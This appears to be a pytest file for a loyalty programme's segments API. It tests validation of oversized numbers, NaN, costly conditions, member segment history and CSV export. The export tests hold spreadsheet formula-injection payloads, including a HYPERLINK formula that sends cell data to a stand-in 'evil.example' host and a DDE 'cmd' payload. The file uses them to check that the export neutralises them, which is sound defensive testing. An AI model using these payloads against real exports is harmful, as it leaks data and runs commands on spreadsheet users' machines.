"""Segments used by a hostile client: numbers no column can hold, conditions too costly to
evaluate, formulas in an export, and a member's history of entries and exits."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from fidelia.db import Database
from fidelia.models import ProgrammeVersion
from tests.fixtures.factories import Api, count_rows, unique_email
from tests.segments.conftest import THREE_IN_90, apply, buy, document, enrol, segment

HUGE = [
    ({"field": "events.purchase.count", "op": "gte", "value": 10**30}, "value"),
    ({"field": "wallets.points", "op": "gte", "value": 1e308}, "value"),
    ({"field": "traits.recency_days", "op": "gte", "value": -(10**30)}, "value"),
    ({"field": "events.purchase.days_since_last", "op": "gte", "value": 10**12}, "value"),
    ({"field": "profile.days_since_enrolment", "op": "lte", "value": 10**9}, "value"),
    ({"field": "events.purchase.count", "op": "between", "value": [1, 10**20]}, "value"),
    ({"field": "attributes.age", "op": "in", "value": [1, 10**40]}, "value"),
    ({"all": [{"field": "tier", "op": "eq", "value": "gold"},
              {"field": "wallets.points", "op": "lt", "value": 10**19}]}, "all.1.value"),
]  # fmt: skip


@pytest.mark.parametrize(("condition", "where"), HUGE)
def test_a_number_no_column_holds_is_a_422_on_the_value(
    api: Api, condition: dict[str, Any], where: str
) -> None:
    apply(api, document())
    enrol(api, unique_email())
    preview = api.post("/segments/preview", json={"condition": condition}, scope="read")
    assert preview.status_code == 422, preview.text
    assert preview.json()["fields"][0]["loc"] == ["body", "condition", *_path(where)]
    created = api.post("/segments", json=segment("huge", condition))
    assert created.status_code == 422, created.text
    assert created.json()["fields"][0]["loc"] == ["body", "condition", *_path(where)]


def _path(where: str) -> list[str | int]:
    return [int(p) if p.isdigit() else p for p in where.split(".")]


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity"])
def test_nan_and_infinity_are_refused(api: Api, database: Database, literal: str) -> None:
    apply(api, document())
    enrol(api, unique_email())
    condition = '{"field": "wallets.points", "op": "gte", "value": ' + literal + "}"
    for path, body in (
        ("/segments/preview", '{"condition": ' + condition + "}"),
        ("/segments", '{"code": "odd", "labels": {"en": "Odd"}, "condition": ' + condition + "}"),
    ):
        response = api.post(path, content=body, headers={"content-type": "application/json"})
        assert response.status_code == 422, response.text
        assert response.json()["fields"][0]["loc"] == ["body", "condition", "value"]
    versions = count_rows(
        database, ProgrammeVersion, ProgrammeVersion.programme_id == api.programme.id
    )
    assert versions == 1


def test_a_value_of_the_wrong_type_is_named_as_the_value(api: Api) -> None:
    apply(api, document())
    wrong = {"field": "events.purchase.count", "op": "gte", "value": "three"}
    response = api.post("/segments/preview", json={"condition": wrong}, scope="read")
    assert response.status_code == 422
    assert response.json()["fields"][0]["loc"] == ["body", "condition", "value"]
    wrong_op = {"field": "tier", "op": "gte", "value": "gold"}
    response = api.post("/segments/preview", json={"condition": wrong_op}, scope="read")
    assert response.json()["fields"][0]["loc"] == ["body", "condition", "op"]


def test_a_condition_counting_too_many_kinds_of_events_is_refused(
    api: Api, database: Database
) -> None:
    apply(api, document())
    leaves = [
        {"field": f"events.type_{i}.count_{i + 1}d", "op": "gte", "value": 1} for i in range(33)
    ]
    response = api.post("/segments/preview", json={"condition": {"any": leaves}}, scope="read")
    assert response.status_code == 422, response.text
    assert response.json()["fields"][0]["loc"] == ["body", "condition"]
    assert "counted fields" in response.json()["detail"]
    created = api.post("/segments", json=segment("costly", {"any": leaves}))
    assert created.status_code == 422, created.text
    versions = count_rows(
        database, ProgrammeVersion, ProgrammeVersion.programme_id == api.programme.id
    )
    assert versions == 1


def test_a_document_counting_too_many_kinds_of_events_is_refused(api: Api) -> None:
    many = [
        segment(f"s{j}", {"any": [
            {"field": f"events.type_{j}_{i}.count", "op": "gte", "value": 1} for i in range(30)
        ]})
        for j in range(10)
    ]  # fmt: skip
    response = api.put("/programme/document", json=document(*many))
    assert response.status_code == 422, response.text
    assert "counted fields" in response.json()["detail"]


def test_the_export_neutralises_formulas(api: Api) -> None:
    apply(api, document(THREE_IN_90))
    evil = api.post(
        "/members",
        json={
            "email": unique_email(),
            "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "last_name": "+cmd|' /C calc'!A0",
            "channel": "web",
        },
        scope="integration",
    )
    assert evil.status_code == 201, evil.text
    plain = enrol(api, unique_email())
    for member in (evil.json()["id"], plain):
        for days in (1, 2, 3):
            buy(api, member, days_ago=days)
    export = api.get("/segments/three-in-90/export", scope="read")
    rows = {r["member_id"]: r for r in csv.DictReader(io.StringIO(export.text))}
    assert (
        rows[evil.json()["id"]]["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    )
    assert rows[evil.json()["id"]]["last_name"] == "'+cmd|' /C calc'!A0"
    assert rows[plain]["first_name"] == "Ana"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_members_segment_history_lists_entries_and_exits_with_their_cause(api: Api) -> None:
    apply(api, document(THREE_IN_90))
    member = enrol(api, unique_email())
    other = enrol(api, unique_email())
    for days in (3, 2):
        buy(api, member, days_ago=days)
        buy(api, other, days_ago=days)
    third = buy(api, member, days_ago=1)
    buy(api, other, days_ago=1)
    swept = api.post("/segments/sweep", json={"at": "2099-01-01T00:00:00Z"})
    assert swept.status_code == 200, swept.text
    history = api.get(f"/members/{member}/segments/history", scope="read")
    assert history.status_code == 200, history.text
    got = history.json()
    assert [(c["segment"], c["kind"], c["cause"]) for c in got["items"]] == [
        ("three-in-90", "segment_entered", "event"),
        ("three-in-90", "segment_left", "sweep"),
    ]
    assert got["items"][0]["event_id"] == third["event_id"]
    assert {c["member_id"] for c in got["items"]} == {member}
    first = api.get(f"/members/{member}/segments/history?limit=1", scope="read").json()
    assert first["items"] == got["items"][:1]
    rest = api.get(
        f"/members/{member}/segments/history?limit=1&cursor={first['next_cursor']}", scope="read"
    ).json()
    assert rest["items"] == got["items"][1:]


def test_a_members_segment_history_refuses_what_it_does_not_know(api: Api) -> None:
    apply(api, document(THREE_IN_90))
    member = enrol(api, unique_email())
    unknown = api.get(
        "/members/019ceb9e-6018-78a4-ad11-f033b48438b5/segments/history", scope="read"
    )
    assert unknown.status_code == 404
    bad = api.get(f"/members/{member}/segments/history?cursor=abc", scope="read")
    assert bad.status_code == 422
    assert bad.json()["fields"][0]["loc"] == ["query", "cursor"]
    assert api.get(f"/members/{member}/segments/history?limit=0", scope="read").status_code == 422


def test_creating_a_segment_that_exists_names_the_code(api: Api) -> None:
    apply(api, document(THREE_IN_90))
    again = api.post("/segments", json=THREE_IN_90)
    assert again.status_code == 409
    assert again.json()["fields"][0]["loc"] == ["body", "code"]


def test_between_with_nan_is_a_422(api: Api, database: Database) -> None:
    apply(api, document())
    body = '{"condition": {"field": "wallets.points", "op": "between", "value": [NaN, 1]}}'
    response = api.post(
        "/segments/preview", content=body, headers={"content-type": "application/json"}
    )
    assert response.status_code == 422, response.text
    assert response.json()["fields"][0]["loc"] == ["body", "condition", "value"]


MANY_TERMS = [
    {"field": "events.purchase.days_since_last", "op": "in", "value": list(range(3000))},
    {"any": [
        {"any": [{"field": f"attributes.k{i}_{j}", "op": "contains", "value": "x"}
                 for j in range(50)]}
        for i in range(10)
    ]},
]  # fmt: skip


@pytest.mark.parametrize("condition", MANY_TERMS)
def test_a_condition_with_too_many_comparisons_is_a_422(
    api: Api, database: Database, condition: dict[str, Any]
) -> None:
    apply(api, document())
    enrol(api, unique_email())
    response = api.post("/segments/preview", json={"condition": condition}, scope="read")
    assert response.status_code == 422, response.text
    assert response.json()["fields"][0]["loc"] == ["body", "condition"]
    assert "comparisons" in response.json()["detail"]
    created = api.post("/segments", json=segment("wide", condition))
    assert created.status_code == 422, created.text
    versions = count_rows(
        database, ProgrammeVersion, ProgrammeVersion.programme_id == api.programme.id
    )
    assert versions == 1


def test_a_preview_that_runs_too_long_is_stopped_with_a_422(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fidelia.segments import service

    apply(api, document())
    for _ in range(3):
        enrol(api, unique_email())
    monkeypatch.setattr(service, "PREVIEW_SECONDS", 0.001)
    wide = {"any": [
        {"any": [{"field": f"traits.spend_share.category.c{i}_{j}", "op": "gte", "value": 0.1}
                 for j in range(20)]}
        for i in range(10)
    ]}  # fmt: skip
    response = api.post("/segments/preview", json={"condition": wide}, scope="read")
    assert response.status_code == 422, response.text
    assert response.json()["fields"][0]["loc"] == ["body", "condition"]
    assert "too costly" in response.json()["detail"]
    monkeypatch.setattr(service, "PREVIEW_SECONDS", 30.0)
    again = api.post("/segments/preview", json={"condition": wide}, scope="read")
    assert again.status_code == 200, again.text  # the connection was left as it was


def test_the_rows_the_cli_exports_are_neutralised_too(api: Api, database: Database) -> None:
    from fidelia.segments import service

    apply(api, document(THREE_IN_90))
    evil = api.post(
        "/members",
        json={"email": unique_email(), "first_name": "@SUM(1+1)", "last_name": "-2+3",
              "channel": "web"},
        scope="integration",
    )  # fmt: skip
    assert evil.status_code == 201, evil.text
    for days in (1, 2, 3):
        buy(api, evil.json()["id"], days_ago=days)
    with database.transaction(readonly=True) as session:
        rows = list(service.export_rows(session, programme=api.programme, code="three-in-90"))
    assert [(first, last) for _, first, last, _, _ in rows] == [("'@SUM(1+1)", "'-2+3")]


def test_a_page_of_members_reads_their_traits_in_one_statement(
    api: Api, database: Database
) -> None:
    from sqlalchemy import event

    apply(api, document(THREE_IN_90))
    for _ in range(4):
        member = enrol(api, unique_email())
        for days in (1, 2, 3):
            buy(api, member, days_ago=days)
    statements: list[str] = []

    def count(*args: Any) -> None:
        statements.append(args[2])

    event.listen(database.engine, "before_cursor_execute", count)
    try:
        page = api.get("/segments/three-in-90/members?limit=4", scope="read")
    finally:
        event.remove(database.engine, "before_cursor_execute", count)
    assert page.status_code == 200, page.text
    assert [m["traits"]["purchases_count"] for m in page.json()["items"]] == [3, 3, 3, 3]
    reads = [s for s in statements if "member_traits" in s]
    assert len(reads) == 1, reads
